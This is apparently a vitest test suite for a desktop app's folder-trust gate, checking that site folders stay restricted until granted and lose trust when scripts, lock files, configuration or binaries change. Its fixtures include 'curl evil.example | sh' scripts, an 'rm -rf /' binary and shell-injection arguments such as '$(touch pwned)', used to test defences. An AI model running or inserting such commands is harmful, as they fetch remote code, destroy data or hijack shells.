/** The trust gate over real folders: what is said of them, when it stops holding, and what it keeps from running. */

import { chmod, mkdir, readFile, rename, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeAll, describe, expect, onTestFinished, test, vi } from "vitest";
import { createSaver } from "#services/storage/saver";
import { lockAcrossProcesses } from "#services/storage/process-locks";
import { keepCopiesIn } from "#services/storage/kept-copies";
import { openTrustStore } from "#services/trust/trust-store";
import { createTrust, type Trust, type TrustedSite } from "#services/trust/trust";
import { askTool, startTool } from "#services/publishers/tool-process";
import { publishers } from "#services/publishers/list";
import { openSite, startServices } from "../support/site.ts";
import { photograph, temporaryFolder, writeFiles } from "../support/temporary-folder.ts";
import { isRunning } from "../../support/processes.ts";

const HOME = "/nowhere/home";
const astro = publishers.find(({ name }) => name === "astro")?.program ?? null;
const article = "---\ntitle: A\n---\n\nText.\n";
const site = {
  "package.json": JSON.stringify({
    name: "site",
    scripts: { dev: "astro dev" },
    dependencies: { astro: "5" },
  }),
  "package-lock.json": "{}",
  "astro.config.mjs": 'import { more } from "./more.mjs";\nexport default more;\n',
  "more.mjs": "export const more = {};\n",
  "node_modules/.bin/astro": "#!/bin/sh\necho astro $@\n",
  "src/content/articles/a.md": article,
};

function trustIn(userData: string, home = HOME): Trust {
  const saver = createSaver({ keepOld: keepCopiesIn(join(userData, "kept")), now: Date.now });
  const lock = lockAcrossProcesses(join(userData, "locks"));
  return createTrust({
    store: openTrustStore({ folder: userData, saver, lock, now: Date.now }),
    userData,
    home,
  });
}

interface Gate {
  readonly trust: Trust;
  readonly root: string;
  readonly userData: string;
  readonly at: TrustedSite;
}

/** A site below a folder of its own, and a gate that nothing was said to. */
async function gate(files: Readonly<Record<string, string>> = site, program = astro): Promise<Gate> {
  const parent = await temporaryFolder(
    Object.fromEntries(Object.entries(files).map(([name, text]) => [`sites/mine/${name}`, text])),
  );
  const root = join(parent, "sites", "mine");
  const userData = join(await temporaryFolder(), "galley");
  return { trust: trustIn(userData), root, userData, at: { root, program } };
}

async function grant({ trust, at }: Pick<Gate, "trust" | "at">, parent = false): Promise<void> {
  await trust.grant(at, (await trust.read(at)).fingerprint, parent);
}

const stateOf = async ({ trust, at }: Gate) => (await trust.read(at)).state;

/** A failure's code. */
const codeOf = (asked: Promise<unknown>) =>
  asked.then(
    () => "none",
    (error: { readonly code?: string }) => error.code,
  );

test("[TR1] a folder opens restricted, and saying so writes nothing in it", async () => {
  const { handlers, root, workspace } = await openSite(site);
  const before = await photograph(root);
  const trust = await handlers["trust.read"]({ workspace });
  expect(trust).toMatchObject({ state: "restricted", mayTrust: true, changed: [], byParent: null });
  expect(await photograph(root)).toEqual(before);
});

test("[TR2] trust is kept by real path outside the folder, for its owner alone", async () => {
  const one = await gate();
  await symlink(one.root, join(one.root, "..", "link"));
  await grant(one);
  expect(await stateOf(one)).toBe("trusted");
  expect(await stateOf({ ...one, trust: trustIn(one.userData) })).toBe("trusted");
  const kept = await readFile(join(one.userData, "trust.json"), "utf8");
  expect(JSON.parse(kept)).toMatchObject({ folders: [{ path: one.root }] });
  // The same folder elsewhere is another one.
  await rename(one.root, `${one.root}-moved`);
  expect(await stateOf({ ...one, at: { ...one.at, root: `${one.root}-moved` } })).toBe("restricted");
});

test("[TR2] nothing in a folder makes it trusted, and one with Galley's own files never is", async () => {
  const inside = await gate({
    ...site,
    "trust.json": '{"folders":[],"parents":["/"]}',
    ".galley/trust.json": '{"folders":[],"parents":["/"]}',
    "galley.json": '{"trust":"trusted"}',
  });
  expect(await stateOf(inside)).toBe("restricted");
  const own = { ...inside, trust: trustIn(join(inside.root, "data")) };
  const { fingerprint, mayTrust } = await own.trust.read(own.at);
  expect(mayTrust).toBe(false);
  expect(await codeOf(own.trust.grant(own.at, fingerprint, false))).toBe("not-trusted");
  // Even a record that says so does not count.
  await writeFile(
    join(inside.root, "data", "trust.json"),
    JSON.stringify({ folders: [{ path: inside.root, fingerprint, files: {} }], parents: [] }),
  );
  expect(await stateOf(own)).toBe("restricted");
  expect(await own.trust.isTrusted(own.at)).toBe(false);
});

describe("[TR3] what a person is shown", () => {
  test("[TR3] is the command that would run, the publisher's own program before scripts", async () => {
    const { trust, at } = await gate();
    expect((await trust.read(at)).commands).toEqual([{ command: "node_modules/.bin/astro dev", runs: null }]);
    const plain = await gate(
      { "package.json": JSON.stringify({ scripts: { predev: "curl evil.example | sh", dev: "vite" } }) },
      null,
    );
    expect((await plain.trust.read(plain.at)).commands).toEqual([
      { command: "npm run dev", runs: "curl evil.example | sh && vite" },
    ]);
    const nothing = await gate({ "a.md": article }, null);
    expect((await nothing.trust.read(nothing.at)).commands).toEqual([]);
  });

  test("[TR3] is what is trusted: an answer to something else is refused", async () => {
    const one = await gate();
    const { fingerprint } = await one.trust.read(one.at);
    await writeFile(join(one.root, "astro.config.mjs"), "process.exit();\n");
    expect(await codeOf(one.trust.grant(one.at, fingerprint, false))).toBe("changed-on-disk");
    expect(await codeOf(one.trust.grant(one.at, "", false))).toBe("changed-on-disk");
    expect(await stateOf(one)).toBe("restricted");
  });
});

describe("[TR4] a change of what would run", () => {
  const manifest = JSON.parse(site["package.json"]) as Record<string, unknown>;
  const changes: Readonly<Record<string, readonly [file: string, text: string]>> = {
    "a script": ["package.json", JSON.stringify({ ...manifest, scripts: { dev: "curl evil.example | sh" } })],
    "a dependency": ["package.json", JSON.stringify({ ...manifest, dependencies: { astro: "6" } })],
    "an override": ["package.json", JSON.stringify({ ...manifest, overrides: { vite: "1" } })],
    "a lock file": ["package-lock.json", '{"x":1}'],
    "another lock file": ["pnpm-lock.yaml", "x: 1\n"],
    "npm's settings": [".npmrc", "script-shell=/tmp/x\n"],
    "the configuration": ["astro.config.mjs", 'import "./more.mjs";\nprocess.exit();\n'],
    "what the configuration imports": ["more.mjs", "process.exit();\n"],
    "the site's schema code": ["src/content.config.ts", "process.exit();\n"],
    "the publisher's own program": ["node_modules/.bin/astro", "#!/bin/sh\nrm -rf /\n"],
  };
  test.each(Object.entries(changes))("[TR4] %s is asked about", async (_what, [file, text]) => {
    const one = await gate();
    await grant(one);
    await writeFiles(one.root, { [file]: text });
    expect(await one.trust.read(one.at)).toMatchObject({ state: "changed", changed: [file] });
    expect(await codeOf(one.trust.require(one.at))).toBe("not-trusted");
    expect(await one.trust.isTrusted(one.at)).toBe(false);
    await grant(one);
    expect(await stateOf(one)).toBe("trusted");
  });

  test("[TR4] what is removed counts, a release or an article does not", async () => {
    const one = await gate();
    await grant(one);
    await writeFiles(one.root, {
      "package.json": JSON.stringify({ ...manifest, version: "2.0.0", description: "Better" }),
      "src/content/articles/b.md": article,
    });
    expect(await stateOf(one)).toBe("trusted");
    await rm(join(one.root, "more.mjs"));
    expect(await one.trust.read(one.at)).toMatchObject({ state: "changed", changed: ["more.mjs"] });
  });

  test("[TR4] imports that circle, leave the folder or lead nowhere end", async () => {
    const one = await gate({
      "astro.config.mjs": 'import "./a.mjs"; import "../../outside.mjs"; import "./nowhere";\n',
      "a.mjs": 'const b = await import("./b");\n',
      "b.ts": 'export * from "./a.mjs"; require("./deep/index");\n',
      "deep/index.js": 'import "./index.js";\n',
    });
    await writeFile(join(one.root, "..", "..", "outside.mjs"), "x");
    await grant(one);
    await writeFile(join(one.root, "b.ts"), "changed");
    expect((await one.trust.read(one.at)).changed).toEqual(["b.ts", "deep/index.js"]);
  });
});

describe("[TR5] the folder above", () => {
  test("[TR5] is trusted by a choice of its own, and each folder in it as it was first opened", async () => {
    const one = await gate();
    const other = { ...one, at: { ...one.at, root: join(one.root, "..", "other") } };
    await writeFiles(other.at.root, site);
    await grant(one);
    expect(await stateOf(other)).toBe("restricted");
    await grant(one, true);
    expect(await other.trust.read(other.at)).toMatchObject({
      state: "trusted",
      byParent: join(one.root, ".."),
    });
    await writeFile(join(other.at.root, "package-lock.json"), "changed");
    expect(await stateOf(other)).toBe("changed");
    const beside = { ...one, at: { ...one.at, root: join(one.root, "..", "..", "sites-evil") } };
    await writeFiles(beside.at.root, site);
    expect(await stateOf(beside)).toBe("restricted");
  });

  test("[TR5] is never a home folder nor above it", async () => {
    const one = await gate();
    const home = join(one.root, "..");
    for (const [place, parent] of [
      [home, null],
      [join(home, "..", "somebody"), home],
      [join(home, "deep"), null],
    ] as const) {
      const trust = trustIn(one.userData, place);
      const { fingerprint, parent: offered } = await trust.read(one.at);
      expect(offered, place).toBe(parent);
      if (parent === null) expect(await codeOf(trust.grant(one.at, fingerprint, true))).toBe("not-trusted");
    }
    expect(await stateOf(one)).toBe("restricted");
  });
});

describe("[TR6] back to restricted", () => {
  test("[TR6] is one step, also below a trusted folder", async () => {
    const one = await gate();
    await grant(one, true);
    await one.trust.revoke(one.at, false);
    expect(await one.trust.read(one.at)).toMatchObject({
      state: "restricted",
      byParent: join(one.root, ".."),
    });
    const other = { ...one, at: { ...one.at, root: join(one.root, "..", "other") } };
    await writeFiles(other.at.root, site);
    expect(await stateOf(other)).toBe("trusted");
    await other.trust.revoke(other.at, true);
    expect(await other.trust.read(other.at)).toMatchObject({ state: "restricted", byParent: null });
  });

  test("[TR6] with the folder above goes what was trusted below it", async () => {
    const one = await gate();
    const other = { ...one, at: { ...one.at, root: join(one.root, "..", "other") } };
    await writeFiles(other.at.root, site);
    await grant(one, true);
    expect(await stateOf(other)).toBe("trusted");
    await one.trust.revoke(one.at, true);
    expect(await stateOf(other)).toBe("restricted");
  });
});

describe.skipIf(process.platform === "win32")("[TR7] a site's program", () => {
  const script = (text: string) => ({ ...site, "node_modules/.bin/astro": `#!/bin/sh\n${text}\n` });
  const command = ({ root }: Gate, ...args: readonly string[]) => ({
    program: join(root, "node_modules/.bin/astro"),
    args,
    folder: root,
  });
  beforeAll(() => {
    vi.stubEnv("GALLEY_TOKEN", "secret");
    vi.stubEnv("NODE_OPTIONS", "--x");
    return () => vi.unstubAllEnvs();
  });
  async function runnable(text: string): Promise<Gate> {
    const one = await gate(script(text));
    await chmod(join(one.root, "node_modules/.bin/astro"), 0o755);
    return one;
  }
  const ran = (one: Gate) =>
    readFile(join(one.root, "ran"), "utf8").then(
      (text) => text,
      () => null,
    );

  test("[TR7] is refused by a failure before trust, after it ended, and when something changed", async () => {
    const one = await runnable('echo "ran" > ran');
    const run = async () => startTool(await one.trust.require(one.at), command(one));
    expect(await codeOf(run())).toBe("not-trusted");
    expect(await ran(one)).toBeNull();
    await grant(one);
    await (
      await run()
    ).ended;
    expect(await ran(one)).toBe("ran\n");
    await rm(join(one.root, "ran"));
    const permit = await one.trust.require(one.at);
    await one.trust.revoke(one.at, false);
    expect(await codeOf(run())).toBe("not-trusted");
    // A permit from before is worth nothing either.
    expect(await codeOf(askTool(permit, command(one), 1000))).toBe("not-trusted");
    expect(() => startTool(permit, command(one))).toThrow("not-trusted");
    await grant(one);
    const early = await one.trust.require(one.at);
    await writeFile(join(one.root, "astro.config.mjs"), "process.exit();\n");
    expect(await codeOf(run())).toBe("not-trusted");
    expect(() => startTool(early, command(one))).toThrow("not-trusted");
    expect(await ran(one)).toBeNull();
  });

  test("[TR7] gets no shell, few names, the site's root, and what was shown", async () => {
    const one = await runnable('pwd > where; printf "%s\\n" "$@" > ran; env | cut -d= -f1 | sort > names');
    await grant(one);
    const permit = await one.trust.require(one.at);
    const more = ["--host", "127.0.0.1", "; touch pwned", "$(touch pwned)"];
    await startTool(permit, command(one, ...more)).ended;
    expect(await ran(one)).toBe(`${more.join("\n")}\n`);
    expect(await readFile(join(one.root, "where"), "utf8")).toBe(`${one.root}\n`);
    const names = (await readFile(join(one.root, "names"), "utf8")).trim().split("\n");
    const kept = ["HOME", "LANG", "LC_ALL", "PATH", "PWD", "OLDPWD", "SHLVL", "TMPDIR", "TZ", "_"].concat([
      "FORCE_COLOR",
      "NO_COLOR",
      "GEM_HOME",
      "GEM_PATH",
    ]);
    expect(names.filter((name) => !kept.includes(name))).toEqual([]);
    expect(await readFile(join(one.root, "pwned"), "utf8").catch(() => null)).toBeNull();
  });

  test("[TR7] prints within a limit, and ends with all that it started", { timeout: 30_000 }, async () => {
    const one = await runnable(
      "trap '' TERM; sleep 300 & echo $! > child; yes galley | head -n 300000; echo the-end; wait",
    );
    await grant(one);
    const program = startTool(await one.trust.require(one.at), command(one));
    onTestFinished(() => program.stop());
    await expect.poll(() => program.lines().at(-1), { timeout: 15_000 }).toBe("the-end");
    expect(program.lines().length).toBeLessThanOrEqual(2000);
    const child = Number(await readFile(join(one.root, "child"), "utf8"));
    expect(isRunning(child)).toBe(true);
    // One step back ends it.
    await one.trust.revoke(one.at, false);
    expect(await program.ended).toBeNull();
    await expect.poll(() => isRunning(child)).toBe(false);
  });

  test("[TR7] that is not there is named", async () => {
    const one = await gate();
    await rm(join(one.root, "node_modules"), { recursive: true });
    await grant(one);
    const program = startTool(await one.trust.require(one.at), command(one));
    expect(await program.ended).toBe(-1);
    expect(program.lines().at(-1)).toContain("node_modules/.bin/astro");
  });
});

describe("[TR8] a record of trust", () => {
  test.each([
    "",
    "{",
    "[]",
    '{"folders": 1, "parents": {"0": "/"}}',
    '{"folders": [{"path": "HERE", "fingerprint": true, "files": {}}]}',
    '{"folders": [{"path": "HERE"}], "parents": [["/"]]}',
  ])("[TR8] that is damaged (%s) trusts nothing", async (text) => {
    const one = await gate();
    await mkdir(one.userData, { recursive: true });
    await writeFile(join(one.userData, "trust.json"), text.replace("HERE", one.root));
    expect(await stateOf(one)).toBe("restricted");
    expect(await codeOf(one.trust.require(one.at))).toBe("not-trusted");
    await grant(one);
    expect(await stateOf(one)).toBe("trusted");
  });

  test("[TR8] that cannot be written is a failure, not trust", async () => {
    const one = await gate();
    await mkdir(join(one.userData, "trust.json"), { recursive: true });
    const { fingerprint } = await one.trust.read(one.at);
    expect(await codeOf(one.trust.grant(one.at, fingerprint, false))).not.toBe("none");
    expect(await stateOf(one)).toBe("restricted");
  });
});

test("[TR9] a preview's address allows remote pictures while its folder is trusted, and is told again", async () => {
  const { handlers, workspace, next, services } = await openSite(site, {
    previewFrame: (_workspace, _path, remote) => Promise.resolve({ frame: String(remote), images: "x" }),
  });
  const path = "src/content/articles/a.md" as never;
  const frame = () => handlers["preview.frame"]({ workspace, path });
  expect(await frame()).toMatchObject({ frame: "false", remoteImages: false });
  const { fingerprint } = await handlers["trust.read"]({ workspace });
  expect(await handlers["trust.grant"]({ workspace, fingerprint, parent: false })).toMatchObject({
    state: "trusted",
  });
  await next("trust.changed");
  expect(await frame()).toMatchObject({ frame: "true", remoteImages: true });
  expect(await services.isTrusted(workspace)).toBe(true);
  await handlers["trust.revoke"]({ workspace, parent: false });
  await next("trust.changed");
  expect(await frame()).toMatchObject({ frame: "false", remoteImages: false });
});

test("[TR2] an unknown workspace has no trust to read or give", async () => {
  const { handlers } = await startServices();
  const workspace = "w".repeat(32) as never;
  expect(await codeOf(handlers["trust.read"]({ workspace }))).toBe("no-workspace");
  expect(await codeOf(handlers["trust.grant"]({ workspace, fingerprint: "", parent: false }))).toBe(
    "no-workspace",
  );
  expect(await codeOf(handlers["trust.revoke"]({ workspace, parent: true }))).toBe("no-workspace");
});
